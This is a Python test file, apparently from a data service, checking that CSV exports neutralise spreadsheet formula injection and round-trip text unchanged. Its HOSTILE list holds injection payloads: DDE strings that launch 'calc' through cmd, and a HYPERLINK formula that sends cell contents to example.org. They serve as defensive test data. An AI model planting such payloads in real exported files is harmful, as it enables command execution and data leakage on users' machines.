"""No CSV of the service holds a formula, and a text comes back as it was."""

import ast
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data_access import csv_text
from data_access.intake.reading.reader import read_sheets
from tests.often import often
from tests.source_trees import tree_of

ROOT = Path(__file__).parents[2]
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
HARMLESS = ["a = b", "'tis", "5-6", "Ahead", "O’Brien", "'"]
FORMULA = "=+-@\t\r\n＝＋－＠"


def read_back(note: str) -> list[str]:
    """The note as it is read from a file, where it stands as a heading and as a cell."""
    rows = pl.DataFrame({"Number": [1, 2], note: [note, "x"], "End": ["a", "b"]})
    (sheet,) = read_sheets(csv_text.as_csv(rows))
    assert sheet.rows["c2"].to_list() == ["End", "a", "b"]
    return sheet.rows["c1"].to_list()


@pytest.mark.parametrize("text", HOSTILE)
def test_what_begins_like_a_formula_is_written_as_text_and_read_back_as_it_was(text):
    written = csv_text.without_formulas(pl.DataFrame({text: [text]}))

    assert written.columns == written.to_series().to_list() == [f"'{text}"]
    assert read_back(text) == [text, text, "x"]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert csv_text.without_formulas(pl.DataFrame({"Note": [text]}))["Note"].to_list() == [text]


@often(200)
@given(st.text(alphabet=[*"'\"ab,; ", *FORMULA], min_size=1))
def test_no_text_is_a_formula_in_a_file_and_every_text_comes_back(text):
    rows = pl.DataFrame({"Note": [text]})
    written = csv_text.without_formulas(rows)

    assert written["Note"][0][0] not in FORMULA
    assert csv_text.without_apostrophes(written).equals(rows)


def test_every_file_of_the_service_is_written_in_one_place():
    # The rows that a server is sent are no file.
    allowed = {"data_access/csv_text.py", "data_access/bulk_insert.py"}
    writers = {
        str(file.relative_to(ROOT))
        for room in ("data_access", "ui", "metrics", "charts", "pages")
        for file in (ROOT / room).rglob("*.py")
        for node in ast.walk(tree_of(file.read_text("utf-8")))
        if isinstance(node, ast.Attribute)
        and (node.attr in ("write_csv", "to_csv") or ast.unparse(node) == "csv.writer")
    }

    assert writers == allowed
